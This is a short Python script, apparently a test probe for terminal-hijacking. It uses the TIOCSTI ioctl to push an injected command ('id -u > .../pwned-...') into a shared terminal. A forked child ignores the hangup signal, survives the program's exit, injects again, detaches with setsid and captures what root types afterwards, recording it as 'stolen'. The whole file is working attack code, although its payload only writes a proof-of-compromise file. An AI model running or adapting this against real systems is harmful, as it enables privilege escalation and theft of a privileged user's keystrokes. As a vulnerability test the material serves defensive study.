#!/usr/bin/python3
import errno, fcntl, os, select, signal, sys, termios, time
out = sys.argv[1]
def record(tag, result):
    with open("%s/%s" % (out, tag), "w") as f:
        f.write(result)
def inject(tag):
    try:
        for b in ("id -u > %s/pwned-%s\n" % (out, tag)).encode():
            fcntl.ioctl(0, termios.TIOCSTI, bytes([b]))
        record(tag, "injected")
    except OSError as e:
        record(tag, errno.errorcode.get(e.errno, str(e.errno)))
# An attacker's child ignores the hangup its terminal gets when the program exits (set before
# the fork, so the child has it from its first instruction).
signal.signal(signal.SIGHUP, signal.SIG_IGN)
if os.fork() == 0:
    time.sleep(1.0)
    inject("after")
    # Wait until root's shell has started its next command, then leave the session (so job
    # control no longer stops its reads) and read what root types meanwhile.
    time.sleep(1.2)
    try:
        os.setsid()
    except OSError:
        pass
    got = b""
    end = time.time() + 3
    while time.time() < end:
        try:
            if select.select([0], [], [], 0.2)[0]:
                data = os.read(0, 4096)
                if not data:
                    break
                got += data
        except OSError:
            break
    if got:
        record("stolen", got.decode(errors="replace"))
    os._exit(0)
inject("during")
